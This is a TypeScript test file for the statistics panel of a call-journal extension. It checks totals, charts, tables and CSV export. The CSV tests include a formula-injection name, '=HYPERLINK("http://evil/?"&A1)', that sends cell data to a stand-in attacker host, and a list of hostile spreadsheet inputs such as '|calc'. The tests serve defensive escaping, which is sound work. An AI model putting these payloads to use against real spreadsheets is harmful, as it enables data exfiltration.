// @vitest-environment happy-dom
import { render } from 'preact'
import { act } from 'preact/test-utils'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import type { JournalSource } from '../../../src/popup/journal/source.ts'
import { PERIODS, STEPS_OF, timeOf } from '../../../src/popup/statistics/period.ts'
import { StatisticsPart } from '../../../src/popup/statistics/StatisticsPart.tsx'
import { csvOf } from '../../../src/protocol/csv.ts'
import { TrubkaError } from '../../../src/protocol/errors.ts'
import { type Figures, MOST_STEPS, type Statistics } from '../../../src/protocol/journal.ts'
import { stepsOf } from '../../../src/server/journal/steps.ts'
import { freshState } from '../../support/peer.ts'

const figures = (more: Partial<Figures> = {}): Figures => ({
  incoming: 4,
  missed: 1,
  outgoing: 3,
  reached: 2,
  internal: 1,
  talkMs: 125_000,
  waitMs: 7000,
  service: 0.75,
  ...more,
})
const DAY = new Date(2026, 4, 9).getTime()
const statistics = (more: Partial<Statistics> = {}): Statistics => ({
  serviceSeconds: 20,
  total: figures(),
  steps: [
    { at: DAY, ...figures() },
    {
      at: DAY + 86_400_000,
      ...figures({ incoming: 0, missed: 0, outgoing: 0, internal: 0, service: null, waitMs: null }),
    },
  ],
  people: [],
  ...more,
})

let root: HTMLElement
let ask: ReturnType<typeof vi.fn<JournalSource['statistics']>>
let saved: [string, string][]
beforeEach(() => {
  ask = vi.fn<JournalSource['statistics']>(async () => statistics())
  saved = []
  root = document.createElement('div')
  document.body.append(root)
})
afterEach(() => {
  void act(() => render(null, root))
  root.remove()
})

const source = { statistics: (wish: Parameters<JournalSource['statistics']>[0]) => ask(wish) }
const save = (name: string, text: string) => void saved.push([name, text])
async function settled(what: () => void): Promise<void> {
  await act(async () => what())
  await act(() => new Promise((resolve) => setTimeout(resolve)))
}
const show = () =>
  settled(() => render(<StatisticsPart state={freshState()} online source={source} language="ru" save={save} />, root))
const cells = (table: number) =>
  [...(root.querySelectorAll('table')[table]?.querySelectorAll('tbody tr') ?? [])].map((row) =>
    [...row.children].map(({ textContent }) => textContent),
  )

describe('Statistics in the panel', () => {
  test('say the totals, draw a chart, and stand in a table behind it', async () => {
    await show()
    expect(root.querySelector('.totals')?.textContent).toContain('Ответили за 20 с75 %')
    expect(root.querySelectorAll('svg g')).toHaveLength(2)
    expect(root.querySelector('svg title')?.textContent).toContain('Пропущенные 1')
    expect(cells(0)[0]?.slice(1)).toEqual(['4', '1', '3', '2', '1', '2:05', '0:07', '75 %'])
    expect(cells(0)[1]?.slice(-2)).toEqual(['—', '—'])
  })

  test('a missed call is not drawn twice', async () => {
    await show()
    const height = (kind: string) => Number(root.querySelector(`.chart-${kind}`)?.getAttribute('height'))
    expect(height('incoming') / height('missed')).toBeCloseTo(3)
  })

  test('are asked for by the browser’s own days', async () => {
    await show()
    const now = new Date()
    expect(ask).toHaveBeenCalledWith({
      scope: 'own',
      step: 'day',
      ...timeOf('week', now),
      zone: Intl.DateTimeFormat().resolvedOptions().timeZone,
    })
  })

  test('of the department name each colleague', async () => {
    const [person] = freshState().colleagues
    if (!person) throw new Error('nobody')
    await show()
    ask.mockResolvedValue(statistics({ people: [{ person, ...figures() }] }))
    await settled(() => root.querySelector<HTMLElement>('input[value="department"]')?.click())
    await vi.waitFor(() => expect(ask.mock.lastCall?.[0].scope).toBe('department'))
    await vi.waitFor(() => expect(cells(1)[0]?.[0]).toBe('Иванова Анна Петровна'))
  })

  test('no time can be chosen that has too many steps', () => {
    for (const period of PERIODS)
      for (const step of STEPS_OF[period]) {
        const { from, to } = timeOf(period, new Date(2027, 1, 28))
        expect(stepsOf(step, from, to, 'Europe/Moscow').length).toBeLessThan(MOST_STEPS)
      }
  })

  test('that cannot be had say why', async () => {
    ask.mockRejectedValue(new TrubkaError('offline'))
    await show()
    expect(root.querySelector('.t-notice')?.textContent).not.toBe('')
    expect(root.querySelector('table')).toBeNull()
  })

  test('without a call say so', async () => {
    ask.mockResolvedValue(statistics({ total: figures({ incoming: 0, outgoing: 0, internal: 0 }) }))
    await show()
    expect(root.textContent).toContain('За это время звонков нет')
  })

  test('are saved as CSV: numbers a spreadsheet can count with, names that it does not run', async () => {
    const person = { id: 'x', name: '=HYPERLINK("http://evil/?"&A1)', department: '', number: '9' }
    ask.mockResolvedValue(statistics({ people: [{ person, ...figures() }] }))
    await show()
    await settled(() => root.querySelector<HTMLElement>('[data-command="csv"]')?.click())
    const [[name, text] = ['', '']] = saved
    expect(name).toBe('trubka-week-day.csv')
    expect(text.startsWith('\uFEFFНачало;Входящие;')).toBe(true)
    expect(text).toContain(';4;1;3;2;1;125;7;75\r\n')
    expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1)";4;`)
  })
})

test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '|calc', '＝1'])('in a table %j is text', (hostile) => {
  expect(csvOf([[hostile]])).toMatch(/^\uFEFF"?'/u)
})
test.each([
  [['Иванова', 5, null], 'Иванова;5;'],
  [['a;b', 'say "hi"', 'two\nlines'], '"a;b";"say ""hi""";"two\nlines"'],
  [[-5], '-5'],
])('%j is written as %s', (row, line) => {
  expect(csvOf([row])).toBe(`\uFEFF${line}\r\n`)
})
